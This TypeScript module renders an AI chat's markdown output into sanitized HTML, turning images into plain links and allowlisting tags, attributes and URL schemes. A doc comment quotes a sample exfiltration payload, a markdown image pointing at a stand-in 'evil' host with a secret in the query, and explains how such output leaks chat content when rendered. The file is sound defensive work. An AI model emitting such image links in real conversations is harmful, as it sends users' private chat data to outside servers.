import DOMPurify, { type Config } from 'dompurify';
import MarkdownIt from 'markdown-it';
import { TRUSTED_TYPES_POLICIES } from '../../common/csp';
import { factory as trustedTypes, sameOriginScriptUrl } from '../security/trusted-types';
import { timed } from './profile';
import { RenderCache } from './render-cache';

// html: false escapes any HTML the model writes; DOMPurify is the second line of defence.
const md = new MarkdownIt({ html: false, linkify: true, breaks: false });

const defaultFence = md.renderer.rules.fence;
md.renderer.rules.fence = (tokens, idx, options, env, self) => {
  const inner = defaultFence ? defaultFence(tokens, idx, options, env, self) : self.renderToken(tokens, idx, options);
  return `<div class="code-block"><button type="button" class="code-copy" data-copy-code>Copy</button>${inner}</div>`;
};

/**
 * An image in model output is a way to send chat content to any server (`![x](https://evil/?q=secret)`
 * is fetched the moment it renders). So an image, inline or reference-style, becomes a plain link
 * that shows its alt text and its URL; the reader can open it deliberately, nothing loads by itself.
 */
md.renderer.rules.image = (tokens, idx, options, env, self) => {
  const token = tokens[idx]!;
  const src = String(token.attrGet('src') ?? '');
  const alt = String(self.renderInlineAsText(token.children ?? [], options, env));
  const esc = md.utils.escapeHtml;
  const label = `${esc(alt || 'image')} (${esc(src)})`;
  // markdown-it has already dropped javascript:/vbscript: URLs (validateLink); DOMPurify checks again.
  return src
    ? `<a class="md-image-link" href="${esc(src)}">🖼 ${label}</a>`
    : `<span class="md-image-link">🖼 ${label}</span>`;
};

/** Exactly what the renderer above emits; everything else (img, svg, style, iframe, form...) is dropped. */
const SANITIZE: Config = {
  ALLOWED_TAGS: [
    'a',
    'blockquote',
    'br',
    'button',
    'code',
    'del',
    'div',
    'em',
    'h1',
    'h2',
    'h3',
    'h4',
    'h5',
    'h6',
    'hr',
    'li',
    'ol',
    'p',
    'pre',
    's',
    'span',
    'strong',
    'table',
    'tbody',
    'td',
    'th',
    'thead',
    'tr',
    'ul',
  ],
  // No style (CSS url() fetches), no src/srcset/poster/background: no attribute here can load anything.
  ALLOWED_ATTR: ['href', 'title', 'class', 'start', 'type', 'target', 'rel', 'data-copy-code'],
  ALLOW_DATA_ATTR: false,
  ALLOW_ARIA_ATTR: false,
  // Links only to the web and mail; markdown-it's linkify already limits autolinks to these.
  ALLOWED_URI_REGEXP: /^(?:https?:|mailto:|#|\/(?!\/))/i,
};

/**
 * DOMPurify's Trusted Types hook: DOMPurify passes its sanitized output (and the input it hands
 * to DOMParser) through it. It does not sanitize by itself, so it stays private to this module.
 */
const policy = trustedTypes?.createPolicy(TRUSTED_TYPES_POLICIES.markdown, {
  createHTML: (s) => s,
  createScriptURL: (s) => sameOriginScriptUrl(s),
});

let hooked = false;
function purifier() {
  if (!hooked) {
    hooked = true;
    DOMPurify.addHook('afterSanitizeAttributes', (node) => {
      if (node.tagName === 'A') {
        node.setAttribute('target', '_blank');
        node.setAttribute('rel', 'noopener noreferrer nofollow');
      }
    });
  }
  return DOMPurify;
}

/** What the sink (`innerHTML`) accepts: TrustedHTML where Trusted Types exist, else a string. */
export type SafeHtml = string | TrustedHTML;

// A finished block is rendered while streaming and again when its message is committed; the cache makes that one
// parse. Bounded by bytes, not entries: one 100 kB code block must not pin hundreds of others.
const cache = new RenderCache<SafeHtml>(4 * 1024 * 1024);

/** Markdown to safe HTML: no raw HTML, no script URLs, nothing that fetches, links open in a new tab. */
export function renderMarkdown(source: string): SafeHtml {
  const hit = cache.get(source);
  if (hit !== undefined) return hit;
  const rendered = timed('markdown parse', () => md.render(source));
  const html: SafeHtml = timed('DOMPurify', () =>
    policy
      ? purifier().sanitize(rendered, {
          ...SANITIZE,
          RETURN_TRUSTED_TYPE: true,
          TRUSTED_TYPES_POLICY: policy as Config['TRUSTED_TYPES_POLICY'],
        })
      : purifier().sanitize(rendered, SANITIZE),
  );
  cache.set(source, html, source.length + rendered.length);
  return html;
}

/** For tests: what the cache holds now. */
export const renderCacheBytes = () => cache.bytes;
